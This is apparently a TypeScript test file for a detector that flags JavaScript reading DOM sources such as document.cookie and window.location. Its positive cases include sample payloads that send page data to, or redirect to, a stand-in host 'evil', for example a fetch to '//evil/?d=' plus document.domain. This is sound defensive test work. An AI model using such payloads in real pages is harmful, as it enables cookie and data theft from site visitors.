import { usesDomSource } from './dom-sources.js';
import { lexJs } from './js-lexer.js';

const flags = (input: string, afterBreak = false): boolean => {
  const tokens = lexJs(input).tokens;
  return tokens.some((_, k) => usesDomSource(tokens, k, afterBreak));
};

describe('usesDomSource', () => {
  it.each([
    'document.cookie',
    'window.location',
    'document.domain;',
    'name\ndocument.cookie',
    'window.document.domain',
    'print(document.domain)',
    '...(document.domain)...',
    "fetch('//evil/?d='+document.domain)",
    "document.cookie+'@evil'",
  ])('flags %j', (input) => {
    expect(flags(input)).toBe(true);
  });

  it('flags the address assigned after a string break, not in plain code', () => {
    expect(flags("window.location='//evil/'", true)).toBe(true);
    expect(flags("window.location='//evil/'")).toBe(false);
    expect(flags("window.location=='x'", true)).toBe(false);
  });

  it.each([
    'read document.cookie in the console',
    'Cookies set from JavaScript (document.cookie) are not HttpOnly',
    '/docs/api/document.cookie',
    'new URLSearchParams(window.location.search)',
    'encodeURIComponent(window.location.href)',
    'new URL(window.location)',
    "'Page: ' + window.location",
    'console.log(document.cookie.length)',
    'Use document.cookie; it returns all cookies.',
    'mydocument.cookie',
  ])('leaves %j alone', (input) => {
    expect(flags(input)).toBe(false);
  });
});
